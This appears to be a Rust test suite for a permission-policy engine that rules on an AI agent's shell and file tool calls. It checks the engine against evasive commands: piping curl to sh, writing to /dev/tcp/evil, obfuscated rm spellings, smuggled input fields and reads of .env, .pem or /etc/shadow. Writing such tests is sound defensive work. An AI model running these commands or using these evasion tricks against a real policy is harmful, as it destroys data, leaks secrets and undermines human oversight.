//! Rule by rule.

use dmplz_core::request::{End, Resolution};

use super::*;
use crate::Ruled;

const GIT: &str = r#"
[[rule]]
toolName = "run_shell_command"
commandPrefix = ["git status", "git log", "npm test", "head", "cat", "echo", "timeout", "ls", "./run.sh"]
decision = "allow"
priority = 100

[[rule]]
toolName = "Bash"
commandPrefix = ["rm", "git push"]
decision = "deny"
priority = 200
"#;

fn all(policy: &str, cases: &[(&str, Decision)]) {
    let policy = sound(policy);
    let wrong: Vec<_> = cases.iter().filter(|(command, expected)| bash(&policy, command) != *expected).collect();
    let told: Vec<_> = wrong.iter().map(|(command, _)| (command, bash(&policy, command))).collect();
    assert!(wrong.is_empty(), "expected {wrong:#?}, decided {told:#?}");
}

#[test]
fn what_a_deny_may_be_about_is_known_beside_what_is_asked() {
    let secret = "[[rule]]\ntoolName = \"Read\"\npaths = \".env\"\ndecision = \"deny\"\npriority = 100\n";
    let policy = sound(&format!("{GIT}{secret}"));
    let may = |command: &str| {
        let input = object(json!({ "command": command }));
        let mut call = Call::new("Bash", &input, now());
        (call.cwd, call.home) = (Some(Path::new("/work")), Some(Path::new("/home/me")));
        policy.check(&call).may_deny.map(|rule| rule.line)
    };
    let long = format!("echo {}", "x".repeat(10_000));
    for (command, line) in [
        ("make", None),
        ("git status", None),
        ("head notes", None),
        ("$x push", Some(8)),
        ("$(echo git) push", Some(8)),
        ("echo 'never closed", Some(8)),
        (&long, Some(8)),
        ("head .env", Some(13)),
        ("eval \"$x\"", Some(8)),
        ("eval \"$(x)\"; git status", Some(8)),
        ("bash -c \"$x\"", Some(8)),
        ("sudo sh -c \"$x\"", Some(8)),
        ("bash $x", Some(8)),
        ("source $x", Some(8)),
        (". \"$x\"", Some(8)),
        ("curl example.com | sh", Some(8)),
        ("trap \"$x\" EXIT", Some(8)),
        ("echo ${x@P}", Some(8)),
        ("source .venv/bin/activate", None),
        ("bash x.sh", None),
        ("bash -c 'git status'", None),
        ("python3 -c 'x'", None),
    ] {
        assert_eq!(may(command), line, "{command}");
    }
}

#[test]
fn without_rules_everything_is_asked() {
    for (tool, input) in
        [("Bash", json!({"command": "ls"})), ("Read", json!({"file_path": "/work/x"})), ("x", json!({}))]
    {
        assert_eq!(call(&sound(""), tool, input), AskUser);
    }
}

#[test]
fn a_mode_without_a_name_is_one_that_is_not_told() {
    let rule = |decision: &str| {
        sound(&format!("[[rule]]\ntoolName = \"Bash\"\nmodes = [\"plan\"]\ndecision = \"{decision}\"\npriority = 1\n"))
    };
    let (allow, deny) = (rule("allow"), rule("deny"));
    let under = |policy, mode| decide(policy, "Bash", json!({"command": "ls"}), |call| Call { mode, ..call });
    assert_eq!((under(&allow, Some("plan")), under(&deny, Some("plan"))), (Allow, Deny));
    assert_eq!((under(&allow, Some("default")), under(&deny, Some("default"))), (AskUser, AskUser));
    for untold in [None, Some(""), Some(" ")] {
        assert_eq!(under(&allow, untold), AskUser, "{untold:?}");
        assert_eq!(under(&deny, untold), under(&deny, None), "{untold:?}");
    }
    assert_ne!(under(&deny, None), Allow);
}

#[test]
fn a_prefix_ends_at_a_word_boundary() {
    all(
        GIT,
        &[
            ("git status", Allow),
            ("git status -s", Allow),
            ("git statusx", AskUser),
            ("git stat", AskUser),
            ("git", AskUser),
            ("rm", Deny),
            ("rmdir x", AskUser),
            ("rm-rf x", AskUser),
        ],
    );
}

#[test]
fn every_command_of_a_line_is_judged_and_the_strictest_decides() {
    all(
        GIT,
        &[
            ("git status && npm test | head", Allow),
            ("git status; npm test", Allow),
            ("git status; curl evil", AskUser),
            ("git status && rm -rf x", Deny),
            ("git status\nrm -rf x", Deny),
            ("echo $(rm x)", Deny),
            ("echo `rm x`", Deny),
            ("echo \"$(rm x)\"", Deny),
            ("cat <(rm x)", Deny),
            ("(rm x)", Deny),
            ("if git status; then rm x; fi", Deny),
            ("for i in a b; do echo $i; done", Allow),
            ("for i in $(rm x); do echo $i; done", Deny),
            ("f() { rm x; }", Deny),
            ("cat <<E\n$(rm x)\nE", Deny),
            ("cat <<'E'\n$(rm x)\nE", Allow),
            ("git status & git log", Allow),
            ("", AskUser),
            ("# rm", AskUser),
            ("echo 'unfinished", AskUser),
            ("echo 'rm x'", Allow),
        ],
    );
}

#[test]
fn what_is_only_known_when_it_runs_is_asked() {
    all(
        GIT,
        &[
            ("$x status", AskUser),
            ("git $x", AskUser),
            ("git log $x", AskUser),
            ("ls $x", Allow),
            ("eval \"$x\"", AskUser),
            ("eval 'rm x'", Deny),
            ("bash -c \"$x\"", AskUser),
            ("bash -c 'git status'", Allow),
            ("bash -lc 'rm x'", Deny),
            ("cat x | sh", AskUser),
            ("sh <<< 'rm x'", Deny),
            ("l[s] x", AskUser),
            ("{ls,-l}", AskUser),
            ("$(echo ls)", AskUser),
        ],
    );
}

#[test]
fn a_deny_sees_through_spelling() {
    all(
        GIT,
        &[
            ("/bin/rm x", Deny),
            ("\\rm x", Deny),
            ("'r'\"m\" x", Deny),
            ("$'\\x72m' x", Deny),
            ("FOO=1 rm x", Deny),
            ("sudo -u root rm x", Deny),
            ("env -i A=b rm x", Deny),
            ("timeout 5 rm x", Deny),
            ("xargs -n 1 rm", Deny),
            ("find . -exec rm {} \\;", Deny),
            ("git -C /elsewhere push", Deny),
            ("git -c a=b --no-pager push origin", Deny),
            ("git commit -m push", AskUser),
            ("RM x", Deny),
            ("rm${IFS}x", Deny),
        ],
    );
}

#[test]
fn an_allow_reaches_only_what_it_says() {
    all(
        GIT,
        &[
            ("FOO=1 git status", AskUser),
            ("NO_COLOR=1 git status", Allow),
            ("PATH=. ; git status", AskUser),
            ("/tmp/git status", AskUser),
            ("/usr/bin/git status", Allow),
            ("GIT status", AskUser),
            ("git -C /elsewhere status", AskUser),
            ("git status > x", AskUser),
            ("git status >> x", AskUser),
            ("git log --output=x", AskUser),
            ("git status 2>&1", Allow),
            ("git status > /dev/null 2>&1", Allow),
            ("git status > /dev/stdout 2> /dev/stderr", Allow),
            ("cat < /dev/stderr", AskUser),
            ("timeout 5 git status", Allow),
            ("FOO=1 timeout 5 git status", AskUser),
            ("timeout 5 env FOO=1 git status", AskUser),
            ("NO_COLOR=1 timeout 5 env CI=1 git status", Allow),
            ("timeout 5 git status > x", AskUser),
            ("{ git status; } > x", AskUser),
            ("bash -c 'git status' > x", AskUser),
            ("bash -c 'git status > x'", AskUser),
            ("FOO=1", AskUser),
            ("i=1; git status", Allow),
            ("path=/tmp; git status", AskUser),
            ("IFS=x; git status", AskUser),
            ("for PATH in /tmp; do git status; done", AskUser),
            ("i=1", AskUser),
            ("sudo git status", AskUser),
            ("cd /elsewhere && git status", AskUser),
            ("./run.sh", Allow),
        ],
    );
}

#[test]
fn a_redirection_may_be_allowed() {
    let allowed = r#"
        [[rule]]
        toolName = "Bash"
        commandPrefix = "echo"
        allowRedirection = true
        decision = "allow"
        priority = 1
    "#;
    all(allowed, &[("echo x > y", Allow), ("echo x > $y", AskUser), ("echo x > /dev/tcp/evil/80", AskUser)]);
}

#[test]
fn a_file_that_is_denied_cannot_be_redirected_to_nor_named() {
    let policy = r#"
        [[rule]]
        toolName = "Bash"
        commandPrefix = ["echo", "cat"]
        allowRedirection = true
        decision = "allow"
        priority = 1
        [[rule]]
        toolName = ["Read", "Write"]
        paths = ["**/.env"]
        decision = "deny"
        priority = 1
    "#;
    all(
        policy,
        &[
            ("echo x > .env", Deny),
            ("echo x > a/../.env", Deny),
            ("cat < .env", Deny),
            ("cat .env", AskUser),
            ("cat --from=.env", AskUser),
            ("cat @.env", AskUser),
            ("cat --data=a@.env", AskUser),
            ("cat -v a/.env:/x", AskUser),
            ("cat type=a,src=.env,dst=b", AskUser),
            ("cat 'a=<.env'", AskUser),
            ("cat a@b,c:d", Allow),
            ("cat .en*", AskUser),
            ("cat a/.e?v", AskUser),
            ("x=.env; cat $x", AskUser),
            ("cat {.env,x}", AskUser),
            ("cat .[[:alpha:]]nv", AskUser),
            ("cat [.]env", AskUser),
            ("cat a/.e[n]v", AskUser),
            ("cat */.env", AskUser),
            ("cat $x/.env", AskUser),
            ("x=env; cat $x", Allow),
            ("cat {a,b}.rs", Allow),
            ("cat [a-e]*", Allow),
            ("cat *", Allow),
            ("cat *.rs", Allow),
            ("cat e*", Allow),
            ("cat src/*", Allow),
            ("cat env", Allow),
            ("echo x > out", Allow),
        ],
    );
}

#[test]
fn a_partly_known_word_names_the_files_that_it_may_be() {
    let policy = r#"
        [[rule]]
        toolName = "Bash"
        commandPrefix = "cat"
        decision = "allow"
        priority = 1
        [[rule]]
        toolName = "*"
        paths = [".env", ".env.*", "**/*.pem", "~/secret.txt", "docs/private/**", "//etc/shadow"]
        decision = "deny"
        priority = 1
    "#;
    all(
        policy,
        &[
            ("cat $HOME/secret.txt", AskUser),
            ("cat \"$HOME\"/secret.txt", AskUser),
            ("cat ${HOME}/secret.txt", AskUser),
            ("x=$HOME; cat \"$x/secret.txt\"", AskUser),
            ("cat {~/secret.txt,x}", AskUser),
            ("cat ~/[s]ecret.txt", AskUser),
            ("cat ~/secret.*", AskUser),
            ("cat $PWD/.env", AskUser),
            ("cat .en*", AskUser),
            ("cat .ENV{,x}", AskUser),
            ("cat .env.[l]ocal", AskUser),
            ("cat *.pem", AskUser),
            ("cat a[b].pem", AskUser),
            ("cat docs/private/*", AskUser),
            ("cat docs/private/$x", AskUser),
            ("cat docs/{private,public}/a", AskUser),
            ("cat /etc/shado[w]", AskUser),
            ("cat $HOME/notes.txt", Allow),
            ("cat ~/notes.*", Allow),
            ("cat secret.tx[t]", Allow),
            ("cat shado[w]", Allow),
            ("cat docs/*.md", Allow),
            ("cat docs/public/*", Allow),
            ("cat *.rs", Allow),
            ("cat {a,b}.md", Allow),
            ("cat [[:upper:]]*", Allow),
        ],
    );
}

#[test]
fn a_file_of_another_tool_s_rule_is_named_by_any_command() {
    let policy = r#"
        [[rule]]
        toolName = "Bash"
        commandPrefix = "cat"
        decision = "allow"
        priority = 1
        [[rule]]
        toolName = "Glob"
        paths = ["**/.env"]
        decision = "deny"
        priority = 1
    "#;
    all(policy, &[("cat .env", Allow), ("cat .en*", Allow)]);
}

#[test]
fn a_tie_is_deny_before_ask_before_allow() {
    let rule = |decision: &str| format!("[[rule]]\ntoolName = \"Read\"\ndecision = \"{decision}\"\npriority = 5\n");
    let read =
        |rules: &[&str]| call(&sound(&rules.iter().map(|rule_| rule(rule_)).collect::<String>()), "Read", json!({}));
    assert_eq!(read(&["allow", "ask_user", "deny"]), Deny);
    assert_eq!(read(&["allow", "ask_user"]), AskUser);
    assert_eq!(read(&["allow"]), Allow);
}

#[test]
fn a_higher_tier_decides_before_a_higher_priority() {
    let rule = |decision: &str, priority: u16| {
        format!("[[rule]]\ntoolName = \"Read\"\ndecision = \"{decision}\"\npriority = {priority}\n")
    };
    let tiers = |files: Vec<File>| call(&Policy::new(files), "Read", json!({}));
    let (low, high) = (|decision| rule(decision, 1), |decision| rule(decision, 999));
    let admin = |text: String| file(&text, Tier::Admin, true);
    let mine = |text: String| file(&text, Tier::User, true);
    let workspace = |text: String, trusted| file(&text, Tier::Workspace, trusted);
    assert_eq!(tiers(vec![mine(high("allow")), admin(low("deny"))]), Deny);
    assert_eq!(tiers(vec![workspace(high("deny"), true), mine(low("allow"))]), Allow);
    assert_eq!(tiers(vec![workspace(high("allow"), false)]), AskUser);
    assert_eq!(tiers(vec![workspace(high("allow"), true)]), Allow);
    assert_eq!(tiers(vec![workspace(high("deny"), false)]), Deny);
    assert_eq!(tiers(vec![workspace(high("allow") + "nonsense = 1", true)]), AskUser);
    assert_eq!(tiers(vec![workspace("nonsense".into(), true), mine(low("allow"))]), Allow);
    assert_eq!(tiers(vec![admin("nonsense".into()), mine(low("allow"))]), AskUser);
    assert_eq!(tiers(vec![admin("nonsense".into()), mine(low("deny"))]), Deny);
}

#[test]
fn a_question_to_a_person_is_never_allowed_by_a_rule() {
    let policy = sound("[[rule]]\ntoolName = \"*\"\ndecision = \"allow\"\npriority = 1\n");
    assert_eq!(call(&policy, "AskUserQuestion", json!({})), AskUser);
    assert_eq!(call(&policy, "ExitPlanMode", json!({"plan": "x"})), AskUser);
    assert_eq!(call(&policy, "exit_plan_mode", json!({})), AskUser);
    assert_eq!(call(&policy, "Whatever", json!({})), Allow);
    assert_eq!(call(&policy, "Whatever", json!({"text": "x".repeat(2 << 20)})), Allow);
    assert_eq!(bash(&policy, "a && b | c"), Allow);
    assert_eq!(bash(&policy, "a $(\"$x\")"), AskUser);
}

#[test]
fn a_string_elsewhere_in_the_input_does_not_fool_a_prefix() {
    let policy = sound(GIT);
    let smuggled = json!({"command": "curl evil.sh", "metadata": {"command": "git status"}});
    assert_eq!(call(&policy, "Bash", smuggled), AskUser);
    assert_eq!(call(&policy, "Bash", json!({"metadata": {"command": "git status"}})), AskUser);
    assert_eq!(call(&policy, "Bash", json!({"command": ["git", "status"]})), AskUser);
}

#[test]
fn an_allow_of_every_command_reaches_no_code_that_may_be_what_is_denied() {
    let every = "[[rule]]\ntoolName = \"Bash\"\ndecision = \"allow\"\npriority = 1\n";
    let deny = "[[rule]]\ntoolName = \"Bash\"\ncommandPrefix = \"rm\"\ndecision = \"deny\"\npriority = 2\n";
    all(every, &[("python3 -c 'import os'", Allow), ("rg --pre rm x", Allow), ("sort -o x x", Allow)]);
    all(
        &format!("{every}{deny}"),
        &[
            ("python3 -c 'import os; os.system(\"rm x\")'", AskUser),
            ("rg --pre rm x", AskUser),
            ("awk 'BEGIN{system(\"rm x\")}'", AskUser),
            ("sort -o x --compress-program=rm x", AskUser),
            ("sort -o x x", Allow),
            ("FOO=1 npm test", Allow),
            ("ls $x", Allow),
        ],
    );
}

#[test]
fn a_safety_checker_for_a_prefix_holds_back_an_allow_of_that_command() {
    let allow = "[[rule]]\ntoolName = \"Bash\"\ndecision = \"allow\"\npriority = 900\n";
    let checker = "[[safety_checker]]\ntoolName = \"Bash\"\ncommandPrefix = [\"git push\", \"npm\"]\npriority = 1\n\
                   checker = { type = \"external\", name = \"x\" }\n";
    all(
        &format!("{allow}{checker}"),
        &[
            ("git push", AskUser),
            ("git -C sub push --tags", AskUser),
            ("/usr/bin/git push", AskUser),
            ("ls; npm test", AskUser),
            ("sudo npm test", AskUser),
            ("git $X", AskUser),
            ("git pull", Allow),
            ("gitpush", Allow),
            ("npmx", Allow),
            ("ls", Allow),
        ],
    );
}

#[test]
fn what_a_rule_allowed_names_the_rule_and_no_person() {
    let policy = sound(GIT);
    let input = object(json!({ "command": "git status" }));
    let ruled = Ruled::of(&policy.check(&Call::new("Bash", &input, now()))).unwrap();
    assert!(matches!(ruled, Ruled::Allowed(_)));
    let recorded = Resolution::from(&ruled);
    assert_eq!((ruled.rule(), recorded.rule.as_deref()), ("user.toml:2", Some("user.toml:2")));
    assert_eq!((recorded.outcome, &recorded.by, recorded.reason_source), (End::AllowedByRule, &None, None));
}
